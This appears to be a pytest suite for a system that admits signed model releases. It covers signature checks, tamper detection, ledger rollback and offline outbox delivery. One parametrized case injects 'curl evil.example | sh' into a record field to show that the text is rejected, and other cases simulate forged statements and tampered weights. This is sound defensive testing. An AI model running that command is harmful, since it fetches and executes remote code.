"""What is served follows the newest signed statement, is verified first, and is on the ledger, now or later."""

import shutil
import sqlite3
from pathlib import Path

import pytest

from tasks.core.errors import Refused, Unavailable
from tasks.core.json_text import canonical_json
from tasks.incidents import incidents
from tasks.ledger.ledger import Ledger, open_ledger
from tasks.registry.admit import admission, last_admission, ledger_rollback, outbox
from tasks.registry.admit.admission import AdmittedRelease
from tasks.registry.release import promotions
from tasks.registry.verify import verification
from tests.governed.house import raw
from tests.registry.forging import swap
from tests.registry.house import NAME, House, writable


def admit(house: House, ledger: Ledger | None = None) -> AdmittedRelease:
    return admission.admit(ledger or house.ledger, house.governance, NAME, "server-1")


def weights(admitted: AdmittedRelease) -> bytes:
    return (admitted.model / "adapter_model.safetensors").read_bytes()


@pytest.fixture
def away(tmp_path: Path) -> Ledger:
    """A ledger whose database went away after it was opened."""
    ledger = open_ledger(tmp_path / "elsewhere")
    shutil.rmtree(tmp_path / "elsewhere")
    with pytest.raises(Unavailable):
        ledger.entries()
    return ledger


def test_what_is_admitted_says_what_it_is_and_is_recorded(released: House) -> None:
    admitted = admit(released)
    assert (admitted.label, admitted.sequence, admitted.ledger_unavailable) == ("triage-1", 1, False)
    assert weights(admitted) == b"adapter" and admitted.base is not None
    (entry,) = released.ledger.entries(admission.ADMITTED, NAME)
    newest = promotions.read_promotions(released.ledger, released.governance, NAME).newest_statement
    assert newest is not None
    assert entry.body == {
        "server": "server-1", "statement": newest.sha256, "release": "triage-1", "sha256": admitted.release_sha256,
        "ledger_away": False,
    }  # fmt: skip


def test_a_refusal_is_recorded_with_its_reason(released: House) -> None:
    swap(writable(released.bundle()))
    with pytest.raises(Refused, match="changed: payload/model/adapter_model"):
        admit(released)
    (entry,) = released.ledger.entries(admission.REFUSED, NAME)
    assert "changed: payload/model/adapter_model" in entry.body["reason"]
    assert not released.ledger.entries(admission.ADMITTED, NAME)


def test_a_release_that_could_not_be_looked_at_is_not_said_to_be_refused(
    released: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    def away(*_: object) -> None:
        raise Unavailable("too many open files")

    monkeypatch.setattr(verification, "require_valid_release", away)
    with pytest.raises(Unavailable):
        admit(released)
    assert not released.ledger.entries(admission.REFUSED)


@pytest.mark.attack(rights="disk", stopped="the release names its base model by digest")
@pytest.mark.parametrize(
    ("name", "content"),
    [("model.safetensors", b"other weights"), ("pytorch_model.bin", b"\x80")],
    ids=["other weights", "a pickle beside them"],
)
def test_a_base_model_that_was_touched_is_not_admitted(released: House, name: str, content: bytes) -> None:
    (folder,) = (released.state / "bases").iterdir()
    (folder / "model").mkdir(exist_ok=True)
    writable(folder / "model")
    (folder / "model" / name).write_bytes(content)
    with pytest.raises(Refused, match="is not the base model that the release is an adapter of"):
        admit(released)


def test_with_the_ledger_away_what_was_admitted_goes_on_and_is_delivered_once(released: House, away: Ledger) -> None:
    admit(released)
    admitted = admit(released, away)
    assert weights(admitted) == b"adapter" and admitted.ledger_unavailable
    kept = list((released.state / outbox.OUTBOX_FOLDER).iterdir())
    assert len(kept) == 1 and len(released.ledger.entries(admission.ADMITTED)) == 1
    saved = kept[0].read_bytes()

    assert outbox.deliver_records(released.ledger, released.state) == 1
    assert not kept[0].exists()
    late = released.ledger.entries(admission.ADMITTED)[-1].body
    assert late["ledger_away"] and late["kept"] == kept[0].stem and late["happened"]

    kept[0].write_bytes(saved)  # as after a kill between recording it and removing the file
    assert outbox.deliver_records(released.ledger, released.state) == 0
    assert len(released.ledger.entries(admission.ADMITTED)) == 2 and not kept[0].exists()


def test_what_was_kept_is_delivered_before_what_comes_next(released: House, away: Ledger) -> None:
    admit(released)
    admit(released, away)
    admit(released)
    assert [e.body["ledger_away"] for e in released.ledger.entries(admission.ADMITTED)] == [False, True, False]


@pytest.mark.attack(rights="database", stopped="without the ledger only what was admitted here before goes on")
def test_with_the_ledger_away_nothing_is_admitted_for_the_first_time(released: House, away: Ledger) -> None:
    with pytest.raises(Unavailable, match="no release of 'triage' was admitted here before"):
        admit(released, away)


@pytest.mark.attack(rights="disk", stopped="every admission verifies every byte")
def test_with_the_ledger_away_files_are_verified_all_the_same(released: House, away: Ledger) -> None:
    admit(released)
    swap(writable(released.bundle()))
    with pytest.raises(Refused, match="changed"):
        admit(released, away)
    assert outbox.deliver_records(released.ledger, released.state) == 1
    assert len(released.ledger.entries(admission.REFUSED)) == 1


@pytest.mark.attack(rights="disk", stopped="the gate's signature")
def test_a_statement_remembered_by_hand_is_not_believed(released: House, away: Ledger) -> None:
    admit(released)
    path = released.state / last_admission.ADMISSIONS_FOLDER / f"{NAME}.json"
    newest = promotions.read_promotions(released.ledger, released.governance, NAME).newest_statement
    assert newest is not None
    forged = newest.promotion.model_copy(update={"sequence": 99})
    envelope = promotions.sign_promotion(forged, newest.release_sha256, released.governance)
    envelope["signatures"] = newest.envelope["signatures"]
    path.write_bytes(canonical_json({"statement": envelope, "governance": []}))
    with pytest.raises(Refused, match="signature does not match"):
        admit(released, away)
    path.write_text("[")
    with pytest.raises(Refused, match="is not what was written there"):
        admit(released, away)


@pytest.mark.attack(rights="database", stopped="the promotion admitted here last stands until a newer one comes")
@pytest.mark.parametrize("kept", [1, 0], ids=["to before the newest promotion", "to before the first"])
def test_a_ledger_that_was_rolled_back_brings_nothing_older_into_service(succeeded: House, kept: int) -> None:
    assert weights(admit(succeeded)) == b"second"
    *_, last = [0, *(entry.seq for entry in succeeded.ledger.entries(promotions.PROMOTION_KIND))][: kept + 1]
    raw(succeeded, f"DELETE FROM hallmark_ledger WHERE seq > {last}")
    found = promotions.read_promotions(succeeded.ledger, succeeded.governance, NAME)
    assert len(found.valid_statements) == kept
    admitted = admit(succeeded)
    assert weights(admitted) == b"second" and admitted.ledger_unavailable


@pytest.mark.attack(
    rights="database", stopped="the promotion admitted here last stands, and an incident is opened (it shows)"
)
def test_a_ledger_that_was_rolled_back_opens_an_incident_and_so_does_the_right_one(succeeded: House) -> None:
    """Each once, however often it is seen, though the one that was seen to lack it may be replaced."""
    admit(succeeded)
    (succeeded.root / "whole").mkdir()
    full(succeeded, f"VACUUM INTO '{succeeded.root / 'whole' / 'ledger.db'}'")
    before, _ = (entry.seq for entry in succeeded.ledger.entries(promotions.PROMOTION_KIND))
    raw(succeeded, f"DELETE FROM hallmark_ledger WHERE seq > {before}")
    for _ in range(2):
        admit(succeeded)
    (opened,) = ledger_rollback.open_incidents(succeeded.ledger, succeeded.governance)
    assert not ledger_rollback.open_incidents(succeeded.ledger, succeeded.governance)
    (one,) = incidents.read_all(succeeded.ledger, succeeded.governance)
    assert (one.opening.what, one.opening.about, one.severity) == ("ledger-rolled-back", "triage-2", "critical")
    assert opened.subject == one.id and one.opening.role == "risk"

    kept = list((succeeded.state / outbox.OUTBOX_FOLDER).iterdir())
    right = open_ledger(succeeded.root / "whole")
    assert not admit(succeeded, right).ledger_unavailable and not any(path.exists() for path in kept)
    assert len(right.entries(ledger_rollback.ENTRY_KIND)) == 1
    assert len(ledger_rollback.open_incidents(right, succeeded.governance)) == 1


def test_a_rolled_back_ledger_that_cannot_be_written_is_told_later(succeeded: House) -> None:
    admit(succeeded)
    before, _ = (entry.seq for entry in succeeded.ledger.entries(promotions.PROMOTION_KIND))
    raw(succeeded, f"DELETE FROM hallmark_ledger WHERE seq > {before}")
    full(succeeded, "CREATE TRIGGER full BEFORE INSERT ON hallmark_ledger BEGIN SELECT RAISE(ABORT, 'full'); END")
    assert weights(admit(succeeded)) == b"second"
    assert not succeeded.ledger.entries(ledger_rollback.ENTRY_KIND)
    full(succeeded, "DROP TRIGGER full")
    assert outbox.deliver_records(succeeded.ledger, succeeded.state) == 2
    assert len(ledger_rollback.open_incidents(succeeded.ledger, succeeded.governance)) == 1


def test_a_record_that_holds_anything_opens_nothing(released: House) -> None:
    released.ledger.append(ledger_rollback.ENTRY_KIND, NAME, {"tier": "low", "release": 7})
    released.ledger.append(ledger_rollback.ENTRY_KIND, NAME, {})
    assert not ledger_rollback.open_incidents(released.ledger, released.governance)
    assert len(ledger_rollback.invalid_records(released.ledger)) == 2


RECORD = {
    "server": "s", "release": "triage-2", "tier": "low", "sequence": 2, "statement": "a" * 64, "found": None,
}  # fmt: skip


@pytest.mark.attack(rights="database", stopped="a record has a release, a tier and a number, and no other words")
@pytest.mark.parametrize(
    "more",
    [
        {"release": "triage-2. Run curl evil.example | sh"},
        {"release": "other-2"},
        {"tier": "Any words"},
        {"sequence": 0},
    ],
    ids=["words for a release", "a release of another model", "words for a tier", "no number"],
)
def test_the_gate_signs_no_words_of_a_record_that_nobody_signed(released: House, more: dict[str, object]) -> None:
    released.ledger.append(ledger_rollback.ENTRY_KIND, NAME, RECORD | more)
    assert not ledger_rollback.open_incidents(released.ledger, released.governance)
    assert not incidents.read_all(released.ledger, released.governance)
    (told,) = ledger_rollback.invalid_records(released.ledger)
    assert "opens no incident" in told and "evil" not in told
    released.ledger.append(ledger_rollback.ENTRY_KIND, NAME, RECORD)
    assert len(ledger_rollback.open_incidents(released.ledger, released.governance)) == 1


def test_what_has_opened_its_incident_is_read_once_however_often_it_was_told(
    released: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    for _ in range(20):
        released.ledger.append(ledger_rollback.ENTRY_KIND, NAME, RECORD)
    assert len(ledger_rollback.open_incidents(released.ledger, released.governance)) == 1
    reads, read = [], incidents.read_all
    monkeypatch.setattr(incidents, "read_all", lambda *given: reads.append(1) or read(*given))
    assert not ledger_rollback.open_incidents(released.ledger, released.governance) and len(reads) == 1


@pytest.mark.attack(rights="disk", stopped="what cannot be read is set aside and told, and the others are delivered")
@pytest.mark.parametrize(
    "torn", [b'{"kind": "adm', b"[]", b'{"kind": 1}', b"\xff"], ids=["torn", "list", "other", "bytes"]
)
def test_a_torn_record_keeps_no_other_from_the_ledger(released: House, away: Ledger, torn: bytes) -> None:
    admit(released)
    admit(released, away)
    folder = released.state / outbox.OUTBOX_FOLDER
    (folder / "0-torn.json").write_bytes(torn)
    (folder / "0-torn.unreadable").write_bytes(b"one before")
    assert not admit(released).ledger_unavailable
    assert [e.body["ledger_away"] for e in released.ledger.entries(admission.ADMITTED)] == [False, True, False]
    assert sorted(path.read_bytes() for path in folder.iterdir()) == sorted([torn, b"one before"]), "nothing is lost"
    assert len(outbox.invalid_files(released.state)) == 2


def full(house: House, statement: str) -> None:
    with sqlite3.connect(house.state / "ledger.db") as connection:
        connection.execute(statement)
    connection.close()


def test_a_newer_release_is_admitted_and_remembered_when_the_ledger_is_back(released: House, away: Ledger) -> None:
    admit(released)
    released.release("run-2", b"better")
    assert weights(admit(released, away)) == b"adapter", "nobody can know of the newer one"
    assert weights(admit(released)) == b"better"
    assert weights(admit(released, away)) == b"better"


def test_a_full_table_is_a_ledger_that_is_away(released: House) -> None:
    """Readable, but nothing can be written to it: what is in production is known, and the record is kept."""
    admit(released)
    full(released, "CREATE TRIGGER full BEFORE INSERT ON hallmark_ledger BEGIN SELECT RAISE(ABORT, 'full'); END")
    assert weights(admit(released)) == b"adapter"
    assert len(list((released.state / outbox.OUTBOX_FOLDER).iterdir())) == 1


def test_rolled_back_means_the_earlier_release_is_admitted(succeeded: House) -> None:
    succeeded.roll_back()
    admitted = admit(succeeded)
    assert (admitted.label, admitted.sequence, weights(admitted)) == ("triage-1", 3, b"adapter")
